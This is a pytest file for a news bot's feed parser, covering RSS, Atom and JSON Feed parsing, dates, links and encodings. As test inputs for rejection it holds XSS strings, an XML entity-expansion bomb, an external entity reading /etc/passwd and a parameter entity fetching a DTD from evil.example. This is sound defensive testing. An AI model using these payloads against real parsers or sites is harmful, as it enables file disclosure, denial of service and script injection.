"""RSS, Atom and JSON Feed become ParsedFeeds; everything else is refused in words."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest

from bot.core.types import ParsedFeed
from bot.errors import NotAFeed
from bot.web.feed_format import MAX_ENTRIES, read_feed
from bot.web.plain_text import read_line
from tests.make import NOW

URL = "https://harbourpost.example/feeds/all.xml"

RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:sy="http://purl.org/rss/1.0/modules/syndication/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>Harbour &amp; Post</title><link>https://harbourpost.example/</link><ttl>90</ttl>
<item><guid isPermaLink="false">ferry-1</guid><link>/ferry?a=1&amp;b=2</link>
<title>Ferry &lt;b&gt;aground&lt;/b&gt; &amp;amp; stuck</title>
<dc:creator>Ada Bright</dc:creator><pubDate>Mon, 16 Nov 2026 09:30:00 +0100</pubDate>
<description>A ferry ran aground.</description>
<content:encoded><![CDATA[<p>A ferry <a href="x">ran aground</a>.</p>
<p>Ten were hurt.</p><script>alert(1)</script>]]></content:encoded>
</item></channel></rss>"""

ATOM = """<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom">
<title type="html">Harbour &lt;i&gt;Post&lt;/i&gt;</title>
<entry><id>urn:1</id><title>Ferry aground</title><link rel="alternate" href="https://harbourpost.example/ferry"/>
<link rel="self" href="https://harbourpost.example/self"/><published>2026-11-16T08:00:00Z</published>
<updated>2026-11-16T08:45:00Z</updated><summary>A ferry ran aground.</summary></entry></feed>"""


def read(body: str | bytes, content_type: str = "") -> ParsedFeed:
    raw = body.encode() if isinstance(body, str) else body
    return read_feed(raw, URL, content_type, NOW).feed


def rss_item(inside: str) -> ParsedFeed:
    return read(f'<rss version="2.0"><channel><title>t</title><item>{inside}</item></channel></rss>')


def test_rss_is_read_as_plain_text_with_absolute_links_and_utc_dates() -> None:
    feed = read(RSS)
    (entry,) = feed.entries
    assert (feed.title, feed.site_url) == ("Harbour & Post", "https://harbourpost.example/")
    assert (entry.key, entry.url) == ("ferry-1", "https://harbourpost.example/ferry?a=1&b=2")
    assert (entry.title, entry.author) == ("Ferry aground & stuck", "Ada Bright")
    assert entry.text == "A ferry ran aground.\n\nTen were hurt."
    assert entry.published_at == datetime(2026, 11, 16, 8, 30, tzinfo=UTC)


def test_atom_is_read() -> None:
    feed = read(ATOM)
    (entry,) = feed.entries
    assert (feed.title, entry.key, entry.url) == ("Harbour Post", "urn:1", "https://harbourpost.example/ferry")
    assert entry.published_at == datetime(2026, 11, 16, 8, 0, tzinfo=UTC)
    assert entry.updated_at == datetime(2026, 11, 16, 8, 45, tzinfo=UTC)


@pytest.mark.parametrize("version", ["1", "1.1"])
def test_json_feed_is_read(version: str) -> None:
    item = {
        "id": 7,
        "url": "/ferry",
        "title": "Ferry aground",
        "content_html": "<p>A ferry ran aground.</p><p>Ten were hurt.</p>",
        "date_published": "2026-11-16T09:30:00+01:00",
        "date_modified": "2026-11-16T09:45:00+01:00",
        "authors": [{"name": "Ada Bright"}],
    }
    body = {
        "version": f"https://jsonfeed.org/version/{version}",
        "title": "Harbour Post",
        "items": [item, "junk"],
    }
    (entry,) = read(json.dumps(body)).entries
    assert (entry.key, entry.url, entry.author) == ("7", "https://harbourpost.example/ferry", "Ada Bright")
    assert entry.text == "A ferry ran aground.\n\nTen were hurt."
    assert entry.published_at == datetime(2026, 11, 16, 8, 30, tzinfo=UTC)
    assert entry.updated_at == datetime(2026, 11, 16, 8, 45, tzinfo=UTC)


def test_what_the_feed_asks_for_between_visits_is_kept() -> None:
    assert read_feed(RSS.encode(), URL, "", NOW).fresh_for == timedelta(minutes=90)
    hourly = RSS.replace(
        "<ttl>90</ttl>", "<sy:updatePeriod>daily</sy:updatePeriod><sy:updateFrequency>4</sy:updateFrequency>"
    )
    assert read_feed(hourly.encode(), URL, "", NOW).fresh_for == timedelta(hours=6)
    assert read_feed(RSS.replace("<ttl>90</ttl>", "<ttl>often</ttl>").encode(), URL, "", NOW).fresh_for is None


@pytest.mark.parametrize(
    "date", ["16. November 2026", "1763287200", "Thu, 01 Jan 1970 00:00:00 GMT", "Fri, 20 Nov 2026 09:00:00 GMT"]
)
def test_an_absurd_date_is_no_date(date: str) -> None:
    (entry,) = rss_item(f"<title>x</title><pubDate>{date}</pubDate>").entries
    assert entry.published_at is None


def test_an_item_without_a_title_has_none() -> None:
    (entry,) = rss_item("<description>The ferry ran aground on Monday.</description>").entries
    assert (entry.title, entry.text) == ("", "The ferry ran aground on Monday.")


def test_what_names_an_item_is_not_resolved_against_the_feeds_address() -> None:
    """The feed may move; its items stay the same."""
    (entry,) = rss_item("<guid>ferry-1</guid><title>x</title>").entries
    assert (entry.key, entry.url) == ("ferry-1", "https://harbourpost.example/feeds/ferry-1")


def test_links_are_resolved_against_the_base_that_the_document_names() -> None:
    body = ATOM.replace("<entry>", '<entry xml:base="/news/">').replace(
        "https://harbourpost.example/ferry", "ferry"
    )
    (entry,) = read(body).entries
    assert entry.url == "https://harbourpost.example/news/ferry"


@pytest.mark.parametrize(
    ("outer", "inner", "address"),
    [
        ("../", "", "https://harbourpost.example/ferry"),
        ("", "../news/", "https://harbourpost.example/news/ferry"),
        ("../", "news/", "https://harbourpost.example/news/ferry"),
        ("https://other.example/a/b/", "../", "https://other.example/a/ferry"),
        ("../../..", "", "https://harbourpost.example/ferry"),  # no higher than the top
    ],
)
def test_a_base_that_climbs_is_followed_and_ids_stay_as_they_stand(outer: str, inner: str, address: str) -> None:
    body = ATOM.replace("<feed ", f'<feed xml:base="{outer}" ' if outer else "<feed ", 1)
    body = body.replace("<entry>", f'<entry xml:base="{inner}">' if inner else "<entry>")
    body = body.replace("https://harbourpost.example/ferry", "ferry")
    (entry,) = read(body).entries
    assert entry.url == address
    assert entry.key == read(ATOM).entries[0].key


@pytest.mark.parametrize(
    ("written", "title"),
    [
        ("Why &lt;b&gt;Vec&amp;lt;u8&amp;gt;&lt;/b&gt; grows", "Why Vec<u8> grows"),
        ("The new &lt;select&gt; element", "The new <select> element"),
        ("If x &lt; y then &amp;amp; so on", "If x < y then & so on"),
        ("&lt;i&gt;Ferry&lt;/i&gt; runs &lt;foo&gt;aground&lt;/foo&gt;&lt;br&gt;", "Ferry runs aground"),
        ("&lt;b&gt;Ferry runs agro…", "Ferry runs agro…"),
    ],
)
def test_an_angle_bracket_that_opens_no_markup_stays_in_the_title(written: str, title: str) -> None:
    (entry,) = rss_item(f"<title>{written}</title>").entries
    assert entry.title == title


def test_a_date_of_long_ago_is_kept() -> None:
    """An old item must look old, not undated: what is undated passes for new."""
    (entry,) = rss_item("<title>x</title><pubDate>Sat, 01 Jan 1983 19:48:21 GMT</pubDate>").entries
    assert entry.published_at == datetime(1983, 1, 1, 19, 48, 21, tzinfo=UTC)


@pytest.mark.parametrize("link", ["javascript:alert(1)", "mailto:a@b.example", "", "http://", "data:text/html,x"])
def test_a_link_that_is_no_web_address_is_left_out(link: str) -> None:
    (entry,) = rss_item(f"<title>x</title><link>{link}</link>").entries
    assert entry.url == ""


def test_hidden_and_broken_characters_are_cleaned_away() -> None:
    (entry,) = rss_item("<title>pay\u202elap \u200bnow\u00ad&#0;&#7;\U000e0041</title>").entries
    assert entry.title == "paylap now"


@pytest.mark.parametrize(
    ("encoding", "declared", "content_type"),
    [
        ("cp1252", True, ""),
        ("cp1252", False, "application/rss+xml; charset=windows-1252"),
        ("utf-16", False, ""),
        ("utf-8", False, ""),
        ("cp1252", False, ""),
    ],
)
def test_the_encoding_is_found(encoding: str, declared: bool, content_type: str) -> None:
    named = f' encoding="{encoding}"' if declared else ""
    text = "Später häuften sich die Fälle in München, sagte der Bürgermeister über die Störung. " * 3
    item = f"<item><title>Über Köln</title><description>{text}</description></item>"
    body = f'<?xml version="1.0"{named}?><rss version="2.0"><channel>{item}</channel></rss>'
    (entry,) = read(body.encode(encoding), content_type).entries
    assert entry.title == "Über Köln"


def test_a_feed_that_lists_thousands_is_cut_to_the_newest() -> None:
    items = "".join(
        f'<item><guid isPermaLink="false">{n}</guid><title>t{n}</title><pubDate>{date}</pubDate></item>'
        for n in range(3000)
        for date in [(NOW - timedelta(minutes=3000 - n)).strftime("%a, %d %b %Y %H:%M:%S GMT")]
    )
    entries = read(f'<rss version="2.0"><channel>{items}</channel></rss>').entries
    assert [entry.key for entry in entries] == [str(n) for n in range(3000 - MAX_ENTRIES, 3000)]


@pytest.mark.parametrize(
    "body",
    [
        "<!DOCTYPE html><html><head><title>Log in</title></head><body>Please</body></html>",
        "<html><body>x</body></html>",
        "",
        "hello",
        "/etc/passwd",
        "{}",
        '{"items": []}',
        '{"version": "https://jsonfeed.org/version/1", "items": 3}',
        "{" * 100_000,
        '{"a":' * 100_000,
        "<rss",
        "\0\0\0",
    ],
)
def test_what_is_no_feed_is_refused_in_words(body: str) -> None:
    with pytest.raises(NotAFeed) as refused:
        read(body)
    assert str(refused.value).endswith(".")


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    '<rss version="2.0"><channel><title>&b;</title></channel></rss>'
)
OUTSIDE = (
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<rss version="2.0"><channel><title>&x;</title></channel></rss>'
)
PARAMETER = (
    '<!-- a --><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
    '<rss version="2.0"><channel/></rss>'
)


@pytest.mark.parametrize("body", [BOMB, OUTSIDE, PARAMETER])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entity_tricks_are_refused(body: str, encoding: str) -> None:
    with pytest.raises(NotAFeed, match="entities"):
        read(body.encode(encoding))


def test_a_harmless_document_type_and_an_article_about_attacks_are_read() -> None:
    old = '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://x.example/rss.dtd">'
    assert read(f'{old}<rss version="0.91"><channel><title>Old</title></channel></rss>').title == "Old"
    short = '<!DOCTYPE rss [<!ENTITY nbsp "x">]><rss version="2.0"><channel><title>Short</title></channel></rss>'
    assert read(short).title == "Short"
    (entry,) = rss_item('<title>XML</title><description><![CDATA[<!ENTITY a SYSTEM "b">]]></description>').entries
    assert entry.title == "XML"


@pytest.mark.parametrize("title", ["<html ontouchmove=alert(1)>", "<HTML xmlns:xss>"])
def test_a_title_that_is_only_the_frame_of_a_page_says_nothing(title: str) -> None:
    assert read_line(title) == ""
